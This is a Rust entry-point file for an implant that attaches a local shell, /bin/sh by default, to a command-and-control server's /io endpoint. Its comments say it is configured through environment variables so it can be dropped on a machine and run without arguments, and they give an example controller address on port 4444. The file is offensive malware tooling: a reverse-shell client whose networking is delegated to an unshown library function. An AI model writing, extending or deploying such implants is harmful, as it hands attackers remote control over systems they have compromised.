//! No-frills implant: connect a shell to the controller's `/io` endpoint.
//!
//! Configured entirely through the environment so it can be dropped on a box
//! and run with no arguments:
//!
//! - `SIMPLESHELL_C2`:   controller URL, e.g. `https://10.0.0.9:4444/io`
//! - `SIMPLESHELL_FP`:   pinned fingerprint (optional `sha256//` prefix)
//! - `SIMPLESHELL_ARGS`: whitespace-separated argv (default `/bin/sh`)

use std::env;

use anyhow::{bail, Context};

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let c2 = match env::var("SIMPLESHELL_C2") {
        Ok(v) if !v.is_empty() => v,
        _ => bail!("SIMPLESHELL_C2 must be set to the controller URL"),
    };
    let fingerprint = env::var("SIMPLESHELL_FP").ok().filter(|v| !v.is_empty());
    let argv: Vec<String> = env::var("SIMPLESHELL_ARGS")
        .map(|v| v.split_whitespace().map(str::to_string).collect())
        .unwrap_or_default();

    client_core::go_simple(&c2, fingerprint.as_deref(), &argv)
        .await
        .context("running shell")
}
